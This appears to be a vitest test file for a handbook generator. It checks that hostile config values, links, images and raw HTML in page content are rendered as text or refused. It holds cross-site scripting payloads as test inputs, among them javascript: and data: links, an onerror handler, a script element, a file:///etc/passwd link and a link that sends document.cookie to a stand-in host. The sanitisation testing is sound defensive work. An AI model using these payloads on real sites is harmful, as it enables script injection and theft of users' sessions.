import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Element, Root as HastRoot } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import ICAL from 'ical.js';
import { toString } from 'mdast-util-to-string';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCli } from '../../src/cli/run.ts';
import { HOSTILE_TEXT, hostileConfig } from '../support/hostile-config.ts';
import { sharedLibrary } from '../support/library.ts';
import { applyVariables } from '../../src/core/library/library.ts';
import { kitHtml } from '../support/render.ts';
import { checkBody } from '../../src/core/library/mode-page.ts';
import { formatDate, scheduleDates } from '../../src/core/handbook/schedule.ts';
import { renderBodyTrees } from '../../src/markdown/pipeline.ts';
import { remarkPlaybook } from '../../src/markdown/remark-playbook.ts';
import type { Root } from 'mdast';
import { VFile } from 'vfile';
import { documentToHtml } from '../../src/render/html.ts';
import { documentToMarkdown } from '../../src/render/markdown.ts';

const CONTENT = resolve('tests/fixtures/generator/content');
const work = mkdtempSync(join(tmpdir(), 'playbook-hostile-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

let out: string;
beforeAll(async () => {
  writeFileSync(join(work, 'config.yaml'), hostileConfig(['beta-mode', 'alpha-mode']));
  let stderr = '';
  const env = { PLAYBOOK_CONTENT_DIR: CONTENT, CHROMIUM_PATH: join(work, 'no-chromium') };
  const code = await runCli(['generate', '-c', 'config.yaml', '-q'], {
    stdout: () => {},
    stderr: (t) => void (stderr += t),
    cwd: work,
    env,
  });
  expect(code, stderr).toBe(0);
  out = join(work, 'out');
});

const read = (file: string) => readFileSync(join(out, file), 'utf8');

/** The text of every text node, and the elements, of an HTML file. */
function parseHtml(file: string): { text: string; tree: HastRoot } {
  const tree = fromHtml(read(file));
  let text = '';
  visit(tree, 'text', (node) => void (text += `${node.value}\n`));
  return { text, tree };
}

describe('every string from the config is text in every output', () => {
  test.each(['handbook.html', 'handouts/01-beta-mode.html'])(
    '%s holds the company name as text only, never as markup or CSS',
    (file) => {
      const { text, tree } = parseHtml(file);
      expect(text).toContain(HOSTILE_TEXT.company);
      const tags = new Set<string>();
      const handlers: string[] = [];
      visit(tree, 'element', (node: Element) => {
        tags.add(node.tagName);
        for (const name of Object.keys(node.properties ?? {}))
          if (/^on/i.test(name)) handlers.push(`${node.tagName}.${name}`);
      });
      expect(tags.has('script')).toBe(false);
      expect(handlers).toEqual([]);
      const styles: string[] = [];
      visit(tree, 'element', (node: Element) => {
        if (node.tagName === 'style')
          styles.push(node.children.map((c) => ('value' in c ? c.value : '')).join(''));
      });
      expect(styles).toHaveLength(1);
      expect(styles[0]).not.toMatch(/Évil|alert|display:none/);
    },
  );

  test('handbook.html shows every field as written', () => {
    const { text } = parseHtml('handbook.html');
    for (const [field, value] of Object.entries(HOSTILE_TEXT)) expect(text, field).toContain(value);
  });

  test('handbook.md reads back every field as text, and no field adds a heading, link or table row', () => {
    const markdown = read('handbook.md');
    const tree = unified().use(remarkParse).use(remarkGfm).parse(markdown);
    const text = toString(tree, { includeHtml: false });
    for (const [field, value] of Object.entries(HOSTILE_TEXT)) expect(text, field).toContain(value);
    const links: string[] = [];
    const html: string[] = [];
    visit(tree, 'link', (node) => void links.push(node.url));
    visit(tree, 'html', (node) => void html.push(node.value));
    // GFM viewers turn a bare https address into a link; anything else would be markup from a field.
    expect(links.filter((url) => !url.startsWith('#'))).toEqual(
      links.filter((url) => url === 'https://evil.example/x?y=1'),
    );
    expect(html).toEqual([]);
    let headings = 0;
    visit(tree, 'heading', (node) => void (toString(node).includes('Not a heading') && headings++));
    expect(headings).toBe(0);
  });

  test('training-plan.ics parses, with the company escaped in its name and no forged property', () => {
    const ics = read('training-plan.ics');
    const calendar = new ICAL.Component(ICAL.parse(ics));
    expect(calendar.getAllSubcomponents('vevent').length).toBeGreaterThan(0);
    const unfolded = ics.replace(/\r\n[ \t]/g, '');
    const escaped = HOSTILE_TEXT.company.replace(/\\/g, '\\\\').replace(/[;,]/g, (c) => `\\${c}`);
    expect(unfolded).toContain(`X-WR-CALNAME:${escaped} service training`);
    expect(unfolded).not.toMatch(/^DESCRIPTION:forged/m);
  });

  test('the folder holds only what the generator writes', () => {
    expect(readdirSync(out).sort()).toEqual([
      '.playbook-handbook',
      'handbook.html',
      'handbook.md',
      'handouts',
      'training-plan.ics',
    ]);
  });
});

describe('a value filled into frontmatter text is isolated like all user text', () => {
  test('a play step that names the company holds it in a <bdi> in handbook.html and the handout', () => {
    for (const file of ['handbook.html', 'handouts/01-beta-mode.html']) {
      const items: Element[] = [];
      visit(parseHtml(file).tree, 'element', (node: Element) => {
        if (node.tagName === 'li' && toText(node).startsWith('What happened at')) items.push(node);
      });
      expect(items.length, file).toBeGreaterThan(0);
      for (const item of items) {
        const isolates = item.children.filter(
          (c): c is Element => c.type === 'element' && c.tagName === 'bdi',
        );
        expect(isolates.map(toText), file).toEqual([HOSTILE_TEXT.company]);
      }
    }
  });

  test('handbook.md carries no invisible marks: Markdown has no isolation markup', () => {
    const markdown = read('handbook.md');
    expect(markdown).toContain('What happened at ');
    expect(markdown).not.toMatch(/[\u2068\u2069]/);
  });

  test('a kit that quotes the refund limit isolates a right-to-left value', async () => {
    const hebrew = 'שירות 50 ₪';
    const library = await sharedLibrary(resolve('content'));
    const recovery = library.modes.find((m) => m.id === 'no-recovery-plan')!;
    const html = kitHtml(applyVariables(recovery, { refundLimit: hebrew }), {
      company: 'אבג',
      accent: '#123456',
    });
    expect(html).toContain(`at work, the limit is <bdi>${hebrew}</bdi>.`);
    expect(html).not.toMatch(/[\u2068\u2069]/);
    expect(JSON.stringify(applyVariables(recovery, {}))).not.toMatch(/[\u2068\u2069]/);
  });
});

function toText(node: Element | { type: string; value?: string; children?: unknown[] }): string {
  if ('value' in node && typeof node.value === 'string') return node.value;
  return ((node as Element).children ?? []).map((c) => toText(c as Element)).join('');
}

/**
 * Links in a page body (a library's, or any Markdown the shared pipeline renders) may go to the web
 * (https, http), to an email address, or to a path of our own; anything else a browser could run or
 * fetch is shown as its words only, and the content check names the file and line.
 */
describe('links, images and markup in a page body', () => {
  const PAGE = 'content/failure-modes/hostile.mdx';
  const render = async (body: string) => {
    const { html, markdown } = await renderBodyTrees(body, PAGE, {});
    return { html: documentToHtml(html), markdown: documentToMarkdown(markdown) };
  };

  test.each([
    ['https', '[the guide](https://example.org/guide)', 'https://example.org/guide'],
    ['http', '[the guide](http://example.org/guide)', 'http://example.org/guide'],
    ['mailto', '[write to us](mailto:help@example.org)', 'mailto:help@example.org'],
    ['a path on our site', '[understaffing](/modes/understaffing/)', '/modes/understaffing/'],
    ['a relative path', '[the sources](../sources/)', '../sources/'],
    ['an anchor', '[the plays](#plays)', '#plays'],
    [
      'a reference to an https address',
      '[the guide][g]\n\n[g]: https://example.org/guide',
      'https://example.org/guide',
    ],
    ['a bare web address', 'See www.example.org today.', 'http://www.example.org'],
  ])('a link to %s stays a link', async (_what, body, href) => {
    const { html, markdown } = await render(body);
    expect(html).toContain(`href="${href}"`);
    expect(markdown).toMatch(new RegExp(`(\\]\\(|\\]: )${href.replace(/[.?]/g, '\\$&')}`));
    expect(checkBody(PAGE, body, 1)).toEqual([]);
  });

  test.each([
    ['javascript', '[click me](javascript:alert(1))', 'javascript:'],
    ['JavaScript in mixed case', '[click me](JaVaScRiPt:alert(1))', 'JaVaScRiPt:'],
    ['javascript with a tab inside, as an entity', '[click me](java&#9;script:alert(1))', 'script:'],
    ['javascript with spaces before it', '[click me](<  javascript:alert(1)>)', 'javascript:'],
    ['vbscript', '[click me](vbscript:msgbox)', 'vbscript:'],
    ['data', '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'data:'],
    ['a local file', '[click me](file:///etc/passwd)', 'file:'],
    ['another host without a scheme', '[click me](//evil.example/x)', '//evil.example'],
    ['another host through backslashes', '[click me](\\\\\\\\evil.example/x)', 'evil.example'],
    ['another host through a slash and a backslash', '[click me](/\\evil.example/x)', 'evil.example'],
    ['a reference to javascript', '[click me][x]\n\n[x]: javascript:alert(1)', 'javascript:', 14],
  ])(
    'a link to %s is shown as its words only, and the check names its line',
    async (_what, body, written, line = 12) => {
      const { html, markdown } = await render(`Intro.\n\n${body}\n`);
      expect(html).toContain('click me');
      expect(html).not.toMatch(/<a\b/);
      expect(markdown).toContain('click me');
      expect(markdown).not.toMatch(/\]\(|^\[x\]:/m);
      const problems = checkBody(PAGE, `Intro.\n\n${body}\n`, 10);
      expect(problems).toHaveLength(1);
      expect(problems[0]).toMatchObject({ file: PAGE, line });
      expect(problems[0]!.message).toContain(written);
      expect(problems[0]!.message).toMatch(/https:, http:, mailto: or a path/);
    },
  );

  test.each([
    ['a web image', '![a pixel](https://evil.example/pixel.png)'],
    ['an image by reference', '![a pixel][p]\n\n[p]: https://evil.example/pixel.png'],
    ['an image from a data address', '![a pixel](data:image/png;base64,iVBORw0KGgo=)'],
  ])('%s is shown as its description: a handbook fetches nothing', async (_what, body) => {
    const { html, markdown } = await render(`Intro.\n\n${body}\n`);
    expect(html).toContain('a pixel');
    expect(html).not.toMatch(/<img\b|evil\.example|data:/);
    expect(markdown).not.toMatch(/!\[|evil\.example|data:/);
    const problems = checkBody(PAGE, `Intro.\n\n${body}\n`, 10);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ file: PAGE, line: 12 });
    expect(problems[0]!.message).toMatch(/image/);
  });

  test.each([
    ['an HTML element', '<img src="x" onerror="alert(1)" />'],
    ['a script element', '<script>alert(1)</script>'],
    ['an autolink to javascript', '<javascript:alert(1)>'],
    ['an expression', '{alert(1)}'],
  ])('%s is refused by the content check with its line', (_what, body) => {
    const problems = checkBody(PAGE, `Intro.\n\n${body}\n`, 10);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems[0]).toMatchObject({ file: PAGE, line: 12 });
  });

  test.each([
    [
      'between paragraphs',
      'Intro.\n\n<script>alert(1)</script>\n\nAfter.',
      '&#x3C;script>alert(1)&#x3C;/script>',
    ],
    ['inside a sentence', 'Intro <b onclick="alert(1)">bold</b> end.', '&#x3C;b onclick="alert(1)">'],
  ])('raw HTML %s in plain Markdown (no MDX) is shown as text', async (_what, body, escaped) => {
    const file = new VFile({ path: PAGE, value: body });
    const tree = await unified().use(remarkPlaybook).run(unified().use(remarkParse).parse(file), file);
    const html = documentToHtml(tree as Root);
    expect(html).toContain(escaped);
    expect(html).not.toMatch(/<script|<b\b/);
    // One message per piece of markup (an opening and a closing tag are two), each at its line.
    expect(file.messages.length).toBeGreaterThan(0);
    expect(new Set(file.messages.map((m) => m.line))).toEqual(new Set([body.startsWith('Intro.') ? 3 : 1]));
  });

  test('a hostile library with a javascript link cannot make a handbook', async () => {
    const dir = mkdtempSync(join(work, 'library-'));
    cpSync(CONTENT, join(dir, 'content'), { recursive: true });
    const page = join(dir, 'content', 'failure-modes', 'beta-mode.mdx');
    writeFileSync(
      page,
      `${readFileSync(page, 'utf8')}\n[Claim your refund](javascript:fetch('//evil.example/'+document.cookie))\n`,
    );
    writeFileSync(join(dir, 'config.yaml'), hostileConfig(['beta-mode']));
    let stderr = '';
    const code = await runCli(['generate', '-c', 'config.yaml', '--content', 'content'], {
      stdout: () => {},
      stderr: (t) => void (stderr += t),
      cwd: dir,
      env: { CHROMIUM_PATH: join(dir, 'no-chromium') },
    });
    expect(code, stderr).toBe(1);
    expect(stderr).toMatch(/beta-mode\.mdx:\d+:\d+ {2}.*javascript:/);
    expect(readdirSync(dir).sort()).toEqual(['config.yaml', 'content']);
  });
});

/** Date.UTC reads years 0 to 99 as 1900 to 1999; every date we print keeps the year as written. */
describe('years below 100', () => {
  test.each([
    ['0001-01-01', 'en-GB', '1 January 1'],
    ['0050-06-01', 'en-GB', '1 June 50'],
    ['0099-12-31', 'en-US', 'December 31, 99'],
    ['0100-03-01', 'en-GB', '1 March 100'],
    ['1999-12-31', 'en-GB', '31 December 1999'],
    ['9999-12-31', 'en-US', 'December 31, 9999'],
  ])('%s prints in %s as "%s"', (iso, locale, text) => {
    expect(formatDate(iso, locale)).toBe(text);
  });

  test.each([
    ['0001-01-31', 'monthly', ['0001-01-31', '0001-02-28', '0001-03-31']],
    ['0004-01-31', 'monthly', ['0004-01-31', '0004-02-29', '0004-03-31']],
    ['0099-12-25', 'weekly', ['0099-12-25', '0100-01-01', '0100-01-08']],
    ['0010-05-01', 'fortnightly', ['0010-05-01', '0010-05-15', '0010-05-29']],
  ] as const)('sessions from %s, %s, stay in their century', (start, cadence, dates) => {
    expect(scheduleDates(start, cadence, 3)).toEqual(dates);
  });

  test('the handbook cover, its training plan and the calendar show the year as written', async () => {
    const dir = mkdtempSync(join(work, 'years-'));
    writeFileSync(
      join(dir, 'config.yaml'),
      hostileConfig(['beta-mode', 'alpha-mode'])
        .replace('date: 2025-03-01', 'date: 0050-06-01')
        .replace('start: 2025-03-03', 'start: 0001-01-01'),
    );
    let stderr = '';
    const code = await runCli(['generate', '-c', 'config.yaml', '-q'], {
      stdout: () => {},
      stderr: (t) => void (stderr += t),
      cwd: dir,
      env: { PLAYBOOK_CONTENT_DIR: CONTENT, CHROMIUM_PATH: join(dir, 'no-chromium') },
    });
    expect(code, stderr).toBe(0);
    const html = readFileSync(join(dir, 'out', 'handbook.html'), 'utf8');
    expect(html).toContain('<time datetime="0050-06-01">1 June 50</time>');
    expect(html).toContain('1 January 1<');
    expect(html).toContain('8 January 1<');
    expect(html).not.toMatch(/19[05]\d/);
    const ics = readFileSync(join(dir, 'out', 'training-plan.ics'), 'utf8');
    expect(ics).toContain('DTSTART:00010101T100000');
    expect(ics).toContain('DTSTART:00010108T100000');
    expect(ics).not.toMatch(/DTSTART:19/);
  });
});
